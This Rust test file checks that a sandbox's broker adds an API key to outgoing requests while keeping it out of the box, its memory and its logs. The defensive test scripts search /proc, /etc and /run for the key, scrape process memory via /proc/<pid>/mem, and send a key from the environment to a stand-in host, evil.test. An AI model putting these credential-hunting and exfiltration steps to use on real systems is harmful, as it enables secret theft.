//! Getting at a key that the broker adds to requests, or getting it sent elsewhere (THREATS.md, 5).
#![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in the functions beside it")]

mod requests;
mod together;
mod words;

use std::process::Command;
use std::time::Duration;

use agentd_tests::tls::{Answer, Authority, TlsServer, ok};
use agentd_tests::{Feature, Home, Ran, Started, require, run, wait_until};
use serde_json::Value;

const KEY: &str = "sk-of-the-test-0123456789abcdef";

/// Words for the scripts: `ask` sends bytes to api.test and gives the whole answer, or why there is none.
const ASK: &str = r"
import socket, ssl, sys, os
def ask(request, port, host='api.test', wrap=None):
    try:
        s = socket.create_connection((host, port), 30)
        if wrap: s = wrap(s)
        s.sendall(request)
        back = b''
        while part := s.recv(1 << 16): back += part
        return back.decode('utf-8', 'replace')
    except OSError as error: return type(error).__name__ + ' ' + str(getattr(error, 'reason', ''))
def get(port, *lines, path='/', host='api.test', method='GET'):
    return ask('\r\n'.join([f'{method} {path} HTTP/1.1', f'Host: {host}:{port}', *lines, 'Connection: close', '', '']).encode(), port)
";

/// A home, a server that is api.test, and the flags of a job that knows its key.
struct Scene {
    home: Home,
    server: TlsServer,
    flags: Vec<String>,
}

impl Scene {
    fn new(answer: Answer) -> Self {
        Self::with(answer, "api.test")
    }

    /// The server shows a certificate for `shown`.
    fn with(answer: Answer, shown: &str) -> Self {
        let (home, authority) = (Home::new(), Authority::new());
        let file = home.path().join("config/authority.pem");
        authority.write(&file);
        let server = TlsServer::start(&authority, shown, answer);
        let key = format!("TOKEN@api.test:{}:header:x-api-key", server.port());
        let flags =
            ["--secret", &key, "--add-host", "api.test:127.0.0.1", "--upstream-ca", &file.display().to_string()];
        let flags = flags.map(str::to_owned).to_vec();
        Self { home, server, flags }
    }

    /// `agentd run -q`, with the key in agentd's own environment.
    fn boxed(&self) -> Command {
        let mut command = self.home.run();
        command.arg("-q").args(&self.flags).env("TOKEN", KEY);
        command
    }

    #[track_caller]
    fn python(&self, command: &mut Command, script: &str) -> Ran {
        let script = format!("{ASK}port = {}\n{script}", self.server.port());
        run(command.args(["--", "/usr/bin/python3", "-c", &script]))
    }

    /// What the newest job asked for.
    fn requests(&self) -> Vec<Value> {
        let id = self.home.jobs()[0]["id"].as_str().unwrap().to_owned();
        let listed = run(self.home.agentd().args(["logs", "--net", "--format", "json", &id])).expect_success();
        serde_json::from_str(&listed.stdout).unwrap()
    }

    #[track_caller]
    fn assert_told(&self, verdict: &str, words: &[&str]) {
        let told = self.requests();
        let told: Vec<&Value> = told.iter().filter(|request| request["verdict"] == verdict).collect();
        for word in words {
            assert!(told.iter().any(|request| request.to_string().contains(word)), "nothing of {word:?} in {told:#?}");
        }
    }
}

/// The processes of a job, the supervisor and the broker left out.
fn in_the_box(supervisor: i32) -> Vec<i32> {
    let children = |pid: i32| -> Vec<i32> {
        let tasks = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
        tasks.split_whitespace().filter_map(|pid| pid.parse().ok()).collect()
    };
    let mut found: Vec<i32> = children(supervisor).into_iter().filter(|pid| comm(*pid) != "agentd-net").collect();
    let mut at = 0;
    while let Some(pid) = found.get(at) {
        found.extend(children(*pid));
        at += 1;
    }
    found
}

fn comm(pid: i32) -> String {
    std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default().trim_end().to_owned()
}

/// The broker of a job, once it is locked.
fn broker(supervisor: i32) -> i32 {
    let mut found = None;
    let is_locked = |pid: i32| {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
        status.lines().any(|line| line == "Seccomp:\t2")
    };
    assert!(wait_until(Duration::from_secs(60), || {
        let tasks =
            std::fs::read_to_string(format!("/proc/{supervisor}/task/{supervisor}/children")).unwrap_or_default();
        let mut pids = tasks.split_whitespace().filter_map(|pid| pid.parse().ok());
        found = pids.find(|pid| comm(*pid) == "agentd-net" && is_locked(*pid));
        found.is_some()
    }));
    found.unwrap()
}

/// Bytes of memory that are looked at together.
const PIECE: usize = 1 << 20;

/// Where the next page may be.
const PAGE: usize = 4096;

/// Whether a process's memory holds the bytes; root may look. Pages that cannot be read are passed over.
fn memory_holds(pid: i32, needle: &str) -> bool {
    use std::os::unix::fs::FileExt;
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap();
    let memory = std::fs::File::open(format!("/proc/{pid}/mem")).unwrap();
    let mut piece = vec![0; PIECE];
    maps.lines().any(|line| {
        let mut words = line.split(' ');
        let (from, to) = words.next().unwrap().split_once('-').unwrap();
        let (from, to) = (usize::from_str_radix(from, 16).unwrap(), usize::from_str_radix(to, 16).unwrap());
        let rights = words.next().unwrap();
        // What is a file's and cannot be written is what the file is.
        let is_file = line.contains('/') && !rights.contains('w');
        if !rights.starts_with('r') || is_file || line.contains("[v") {
            return false;
        }
        let mut at = from;
        while at < to {
            let most = PIECE.min(to - at);
            // Up to the first page that cannot be read, or is not mapped any more.
            let read = memory.read_at(&mut piece[..most], u64::try_from(at).unwrap()).unwrap_or(0);
            if piece[..read].windows(needle.len()).any(|window| window == needle.as_bytes()) {
                return true;
            }
            at += match read {
                0 => PAGE - at % PAGE,
                // What lies across the end of a piece is in the next one.
                PIECE => PIECE - needle.len(),
                read => read,
            };
        }
        false
    })
}

#[test]
fn escape_a_key_is_added_outside_and_is_nowhere_inside() {
    if !require(Feature::Userns) {
        return;
    }
    let scene = Scene::new(|_| ok("answered\n"));
    // The pattern is put together inside, so that no command line holds it.
    let search = format!(
        "import os, pathlib, socket
needle = '-'.join(['sk', 'of', 'the', 'test', '{}']).encode()
def look(path):
    try: return needle in open(path, 'rb').read(1 << 24)
    except OSError: return False
found = []
for top in '/proc', '/run', '/tmp', '/etc', '/home', '/scratch', '/var/tmp':
    for directory, inner, files in os.walk(top):
        inner[:] = [d for d in inner if not d.startswith('task') and d not in ('map_files', 'fd', 'fdinfo')]
        for name in files:
            if name not in ('mem', 'kmsg', 'kcore', 'pagemap') and 'self' not in directory and look(f'{{directory}}/{{name}}'):
                found.append(f'{{directory}}/{{name}}')
print(found, os.environ.get('TOKEN'))
",
        &KEY["sk-of-the-test-".len()..]
    );
    let ran = scene.python(&mut scene.boxed(), &format!("print(get(port)[-9:], end='')\n{search}")).expect_success();
    assert_eq!(ran.stdout, "answered\n[] agentd-adds-the-key-outside\n");
    let heard = scene.server.heard();
    assert!(heard.len() == 1 && heard[0].contains(&format!("\r\nx-api-key: {KEY}\r\n")), "{heard:?}");
    scene.assert_told("allowed", &["\"GET /\"", "--secret TOKEN", "127.0.0.1"]);
    // The search finds what is there.
    let mut control = scene.home.run();
    control.args(["-q", "--secret-file", "TOKEN", "--secret-env", "OTHER=env:TOKEN"]).env("TOKEN", KEY);
    let ran = scene.python(&mut control, &search).expect_success();
    assert!(ran.stdout.contains("/run/secrets/TOKEN") && ran.stdout.contains("/environ"), "{ran}");
}

#[test]
fn escape_no_process_of_the_box_has_the_key_in_its_memory_and_the_broker_has_nothing_else() {
    if !require(Feature::Userns) || !require(Feature::Root) {
        return;
    }
    let scene = Scene::new(|_| ok("answered\n"));
    let (other, of_a_file) = ("a-variable-of-the-host-5555", "the-value-of-another-6666");
    // It has asked once, keeps the answer and waits; the shell waits for it.
    let script = format!(
        "{ASK}answer = get({})\nprint('asked', answer[-9:], flush=True)\nsys.stdin.readline()",
        scene.server.port()
    );
    let start = |flags: &[String]| {
        let mut command = scene.home.run();
        command.args(flags).args(["-q", "-i"]).env("TOKEN", KEY).env("UNRELATED", other).env("FILE", of_a_file);
        command.args(["--", "sh", "-c", "/usr/bin/python3 -c \"$0\"; true", &script]);
        let mut started = Started::new(command.stdin(std::process::Stdio::piped()));
        started.wait_for("asked");
        started
    };
    let flags = [&scene.flags[..], &["--secret-file".to_owned(), "FILE".to_owned()]].concat();
    let mut started = start(&flags);
    let supervisor = started.pid();
    started.wait_for("asked answered\n");
    let inside = in_the_box(supervisor);
    assert!(inside.len() >= 3 && inside.iter().any(|pid| comm(*pid) == "python3"), "{inside:?}");
    for pid in inside {
        for needle in [KEY, other] {
            assert!(!memory_holds(pid, needle), "{} has {needle}", comm(pid));
        }
    }
    let net = broker(supervisor);
    assert!(memory_holds(net, KEY));
    for needle in [other, of_a_file] {
        assert!(!memory_holds(net, needle), "the broker has {needle}");
    }
    // The supervisor, from which both were cloned, is where the search finds all of them.
    assert!([KEY, other, of_a_file].iter().all(|needle| memory_holds(supervisor, needle)));
    drop(started.stdin());
    let _ran = started.finish().expect_success();
    // A key that is given to the box is found in it by the same search.
    let mut started = start(&["--secret-env".to_owned(), "TOKEN".to_owned()]);
    let supervisor = started.pid();
    assert!(in_the_box(supervisor).into_iter().any(|pid| memory_holds(pid, KEY)));
    drop(started.stdin());
    let _ran = started.finish().expect_success();
    // Without keys the broker has nothing of the host's either.
    let mut started =
        start(&["--allow".to_owned(), "web.test".to_owned(), "--secret-file".to_owned(), "FILE".to_owned()]);
    let net = broker(started.pid());
    assert!([KEY, other, of_a_file].iter().all(|needle| !memory_holds(net, needle)));
    drop(started.stdin());
    let _ran = started.finish().expect_success();
}

/// What a box says about who it is, is not passed on beside the key; what it says about the connection neither.
#[test]
fn escape_a_client_cannot_put_its_own_key_beside() {
    if !require(Feature::Userns) {
        return;
    }
    let scene = Scene::new(|_| ok("answered\n"));
    let script = "
print(get(port, 'X-Api-Key: theirs', 'x-api-key: again', 'Authorization: Bearer theirs', 'Cookie: session=theirs',
    'Proxy-Authorization: Basic dGhlaXJz', 'X-HTTP-Method-Override: DELETE', 'Connection: x-api-key, x-own', 'X-Own: theirs',
    'X-Trace: kept')[-9:], end='')";
    let ran = scene.python(&mut scene.boxed(), script).expect_success();
    assert_eq!(ran.stdout, "answered\n");
    let heard = scene.server.heard().join("");
    assert!(heard.contains(&format!("x-api-key: {KEY}\r\n")) && heard.contains("x-trace: kept\r\n"), "{heard}");
    assert!(
        !heard.contains("theirs") && !heard.contains("again") && !heard.to_lowercase().contains("override"),
        "{heard}"
    );
    assert_eq!(heard.matches("x-api-key").count(), 1, "{heard}");
    // Where no key is added, the box says who it is as it likes.
    let mut control = scene.home.run();
    let rule = format!("https://api.test:{}/*", scene.server.port());
    control.args(["-q", "--allow", &rule]).args(&scene.flags[2..]);
    let ran = scene.python(&mut control, script).expect_success();
    let heard = scene.server.heard().split_off(1).join("");
    assert!(
        ran.stdout == "answered\n" && heard.contains("Bearer theirs") && heard.contains("session=theirs"),
        "{heard}"
    );
}

/// A redirect is the client's to follow, and the key does not go where it leads.
#[test]
fn escape_a_redirect_does_not_take_the_key_along() {
    if !require(Feature::Userns) {
        return;
    }
    let scene = Scene::new(|_| {
        b"HTTP/1.1 307 Temporary Redirect\r\nLocation: http://evil.test:8080/\r\nContent-Length: 0\r\n\r\n".to_vec()
    });
    let other = agentd_tests::server::Server::at("127.0.0.1", agentd_tests::server::OK);
    let script = format!(
        "
first = get(port)
print('Location: http://evil.test' in first or 'location: http://evil.test' in first)
print(ask(b'GET / HTTP/1.1\\r\\nHost: evil.test:{0}\\r\\nX-Api-Key: ' + os.environ['TOKEN'].encode() + b'\\r\\n\\r\\n', {0}, 'evil.test')[:15])",
        other.port()
    );
    let mut command = scene.boxed();
    command.args(["--allow", &format!("evil.test:{}", other.port()), "--add-host", "evil.test:127.0.0.1"]);
    let ran = scene.python(&mut command, &script).expect_success();
    assert_eq!(ran.stdout, "True\nHTTP/1.1 200 OK\n");
    assert_eq!(scene.server.heard().len(), 1);
    let heard = other.heard();
    assert!(heard.contains("evil.test") && !heard.contains(KEY), "{heard}");
    // A client that holds the key takes it there.
    let mut control = scene.home.run();
    control.args(["-q", "--secret-env", "TOKEN", "--allow", &format!("evil.test:{}", other.port())]).env("TOKEN", KEY);
    control.args(["--add-host", "evil.test:127.0.0.1"]);
    let _ran = scene.python(&mut control, &script.replace("first = get(port)", "first = ''")).expect_success();
    assert!(other.heard().contains(KEY));
}

#[test]
fn escape_a_server_that_cannot_show_its_name_gets_no_key() {
    if !require(Feature::Userns) {
        return;
    }
    let scene = Scene::with(|_| ok("answered\n"), "evil.test");
    let ran = scene.python(&mut scene.boxed(), "print(get(port))").expect_success();
    assert!(ran.stdout.starts_with("HTTP/1.1 403 Forbidden") && ran.stdout.contains("do not retry"), "{ran}");
    assert_eq!(scene.server.heard(), Vec::<String>::new());
    scene.assert_told("refused", &["cannot show that it is api.test"]);
    // Nor does one whose authority nobody knows.
    let scene = Scene::new(|_| ok("answered\n"));
    let other = scene.home.path().join("config/other.pem");
    Authority::new().write(&other);
    let mut command = scene.home.run();
    command.arg("-q").args(&scene.flags[..4]).arg("--upstream-ca").arg(&other).env("TOKEN", KEY);
    let ran = scene.python(&mut command, "print(get(port))").expect_success();
    assert!(ran.stdout.starts_with("HTTP/1.1 403 Forbidden"), "{ran}");
    assert_eq!(scene.server.heard(), Vec::<String>::new());
    // The same server is believed where its authority is.
    assert!(scene.python(&mut scene.boxed(), "print(get(port))").expect_success().stdout.contains("answered"));
}

/// TLS from the box hides requests: the rule that a key implies does not let it pass.
#[test]
fn escape_a_key_opens_no_way_past_the_broker() {
    if !require(Feature::Userns) {
        return;
    }
    let scene = Scene::new(|_| ok("answered\n"));
    let script = "
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
wrap = lambda s: context.wrap_socket(s, server_hostname='api.test')
print(ask(f'GET / HTTP/1.1\\r\\nHost: api.test:{port}\\r\\nX-Api-Key: theirs\\r\\nConnection: close\\r\\n\\r\\n'.encode(), port, wrap=wrap)[-40:])";
    let ran = scene.python(&mut scene.boxed(), script).expect_success();
    assert!(ran.stdout.contains("TLSV1_ALERT_ACCESS_DENIED"), "{ran}");
    assert_eq!(scene.server.heard(), Vec::<String>::new());
    scene.assert_told("refused", &["--tls-terminate"]);
    // A rule of the user's own does, and no key is added.
    let mut command = scene.boxed();
    command.args(["--allow", &format!("api.test:{}", scene.server.port())]);
    let ran = scene.python(&mut command, script).expect_success();
    let heard = scene.server.heard().join("");
    assert!(ran.stdout.contains("answered") && heard.contains("theirs") && !heard.contains(KEY), "{ran}\n{heard}");
}

/// What a server echoes, the box can read; what agentd keeps does not have it.
#[test]
fn escape_an_echo_is_in_no_log_of_agentds() {
    if !require(Feature::Userns) {
        return;
    }
    let scene = Scene::new(ok);
    let script = "print(get(port, path='/' + os.environ['TOKEN']))";
    let ran = scene.python(&mut scene.boxed(), script).expect_success();
    assert!(ran.stdout.contains(KEY), "{ran}");
    for path in scene.home.paths().into_iter().filter(|path| path.starts_with("state")) {
        let kept = std::fs::read(scene.home.path().join(&path)).unwrap_or_default();
        assert!(!kept.windows(KEY.len()).any(|window| window == KEY.as_bytes()), "{}", path.display());
    }
    // What agentd was not told is a key, it keeps; the same search finds it.
    let mut control = scene.home.run();
    let _ran = run(control.args(["-q", "--", "echo", KEY])).expect_success();
    let holds = |path: &std::path::PathBuf| {
        let kept = std::fs::read(scene.home.path().join(path)).unwrap_or_default();
        kept.windows(KEY.len()).any(|window| window == KEY.as_bytes())
    };
    assert!(scene.home.paths().iter().any(|path| path.ends_with("stdout.log") && holds(path)));
}
